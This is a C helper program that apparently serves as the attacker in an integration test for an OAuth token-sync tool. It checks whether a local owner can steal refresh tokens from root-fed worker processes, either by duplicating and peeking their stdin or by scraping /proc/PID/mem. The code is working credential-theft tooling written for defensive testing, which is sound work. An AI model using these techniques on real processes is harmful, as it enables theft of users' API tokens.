/* The attacker of test/integration/attacks.test.ts, run as a place's owner: it looks for oauth-sync's `__as-owner`
 * processes running as its own uid and tries to read what root sends them: their stdin (pidfd_getfd, then
 * recv(MSG_PEEK), or tee(2) for a pipe, so the request is not consumed and the sync goes on unaware) and their memory
 * (/proc/PID/mem, every writable mapping). Prints "FOUND stdin|mem <token>" for every refresh token (sk-ant-ort01-)
 * it sees, and "SUMMARY stdin got/tried memory got/tried refresh N access M" at the end (M counts access tokens,
 * sk-ant-oat01-: proof that a read that found no refresh token did reach what root sent; "ACCESS" is printed when
 * the first one is seen).
 *   snoop SECONDS [STOPFILE [MATCH]]   (see workers.h) */
#include "workers.h"
#include <errno.h>
#include <sys/socket.h>
#include <sys/syscall.h>

static const char *NEEDLE = "sk-ant-ort01-";
static const char *ACCESS = "sk-ant-oat01-";
static long tried_fd, got_fd, tried_mem, got_mem, found, access_seen;

static void report(const char *kind, const char *buf, size_t len) {
  size_t n = strlen(NEEDLE);
  for (size_t i = 0; i + n <= len; i++) {
    if (memcmp(buf + i, ACCESS, n) == 0 && access_seen++ == 0) {
      printf("ACCESS\n"); /* the first one: the test knows its reads reach what root sends */
      fflush(stdout);
    }
    if (memcmp(buf + i, NEEDLE, n) != 0) continue;
    size_t j = i + n;
    while (j < len && (buf[j] == '-' || buf[j] == '_' || (buf[j] >= '0' && buf[j] <= '9') || (buf[j] >= 'a' && buf[j] <= 'z') || (buf[j] >= 'A' && buf[j] <= 'Z'))) j++;
    if (j - i < 40) continue;
    printf("FOUND %s %.*s\n", kind, (int)(j - i), buf + i);
    fflush(stdout);
    found++;
    i = j;
  }
}

static void peek_stdin(pid_t pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return;
  tried_fd++;
  int fd = syscall(SYS_pidfd_getfd, pidfd, 0, 0);
  close(pidfd);
  if (fd < 0) return;
  got_fd++;
  static char buf[1 << 20];
  for (int round = 0; round < 200; round++) {
    ssize_t n = recv(fd, buf, sizeof buf, MSG_PEEK | MSG_DONTWAIT);
    if (n < 0 && errno == ENOTSOCK) {
      int p[2];
      if (pipe(p) == 0) {
        ssize_t t = tee(fd, p[1], sizeof buf, SPLICE_F_NONBLOCK);
        if (t > 0) { ssize_t r = read(p[0], buf, sizeof buf); if (r > 0) report("stdin", buf, r); }
        close(p[0]); close(p[1]);
      }
    } else if (n > 0) {
      report("stdin", buf, n);
      break;
    }
    usleep(200);
  }
  close(fd);
}

static void read_mem(pid_t pid) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  tried_mem++;
  if (!maps) return;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mem = open(path, O_RDONLY);
  if (mem < 0) { fclose(maps); return; }
  got_mem++;
  static char buf[1 << 20];
  while (fgets(line, sizeof line, maps)) {
    unsigned long lo, hi; char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
    for (unsigned long at = lo; at < hi; at += sizeof buf) {
      size_t want = hi - at < sizeof buf ? hi - at : sizeof buf;
      ssize_t n = pread(mem, buf, want, (off_t)at);
      if (n <= 0) break;
      report("mem", buf, n);
    }
  }
  close(mem);
  fclose(maps);
}

static void look(pid_t pid) {
  peek_stdin(pid);
  read_mem(pid); /* at every look: a long-lived worker holds each request only for a moment */
}

int main(int argc, char **argv) {
  visit_workers(argc, argv, look);
  printf("SUMMARY stdin %ld/%ld memory %ld/%ld refresh %ld access %ld\n", got_fd, tried_fd, got_mem, tried_mem, found, access_seen);
  return 0;
}
